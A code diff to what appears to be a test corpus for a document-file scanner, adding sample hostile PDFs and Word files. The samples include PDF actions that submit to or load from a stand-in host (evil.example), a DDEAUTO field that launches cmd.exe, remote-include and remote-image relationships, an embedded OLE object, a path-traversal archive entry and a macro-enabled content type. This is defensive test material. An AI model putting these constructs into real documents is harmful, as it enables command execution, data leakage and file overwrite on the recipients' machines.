@@ -6,6 +6,7 @@ import gzip
 import io
 import pickle
 import struct
+import warnings
 import zipfile
 import zlib
 from collections.abc import Mapping
@@ -143,9 +144,48 @@ HTML = b"<!doctype html><script>alert(1)</script>"
 RELS = "xl__worksheets___rels__sheet1.xml.rels"
 
 
+def twice() -> bytes:
+    """Which of two parts of one name is read, hangs on the reader."""
+    out = io.BytesIO()
+    with warnings.catch_warnings(), zipfile.ZipFile(out, "w") as package:
+        warnings.simplefilter("ignore")
+        package.writestr("[Content_Types].xml", b"<Types/>")
+        for text in (b"<w:document/>", b"<w:document>other</w:document>"):
+            package.writestr("word/document.xml", text)
+    return out.getvalue()
+
+
+def more() -> dict[str, bytes]:
+    """What starts or loads something by ways that are met less often."""
+    field = b'<w:document><w:fldSimple w:instr="%s"/></w:document>'
+    kind = b'<Types><Override ContentType="application/vnd.ms-word.%s.main+xml"/></Types>'
+    document = "word__document.xml"
+    return {
+        "named script.pdf": pdf(b"/Names << /JavaScript << /Names [(a) 5 0 R] >> >>"),
+        "submitting.pdf": pdf(b"/AA << /O << /S /SubmitForm /F (http://evil.example) >> >>"),
+        "other file.pdf": pdf(b"/OpenAction << /S /GoToR /F (\\\\evil.example\\s) >>"),
+        "rich media.pdf": pdf(more=b"5 0 obj\n<< /Subtype /RichMedia >>\nendobj"),
+        "dde field.docx": docx(**{document: field % b"DDEAUTO c:\\cmd.exe &quot;/k calc&quot;"}),
+        "text field.docx": docx(
+            **{document: field % b"INCLUDETEXT &quot;http://evil.example/x&quot;"}
+        ),
+        "object.docx": docx(**{"word__embeddings__oleObject1.bin": OLE}),
+        "chunk.docx": docx(
+            **{"word___rels__document.xml.rels": REMOTE % (b"aFChunk", b"chunk.html")}
+        ),
+        "remote picture.docx": docx(
+            **{"word___rels__document.xml.rels": REMOTE % (b"image", b"file://evil.example/s")}
+        ),
+        "outward.docx": docx(**{"..__..__evil.xml": b"<x/>"}),
+        "twice.docx": twice(),
+        "macro kind.docx": docx(**{"[Content_Types].xml": kind % b"document.macroEnabled"}),
+    }
+
+
 def corpus() -> dict[str, bytes]:
     """Every file, by a name that tells what it is."""
     return {
+        **more(),
         # Nothing, or not whole.
         "empty.csv": b"",
         "empty.pdf": b"",
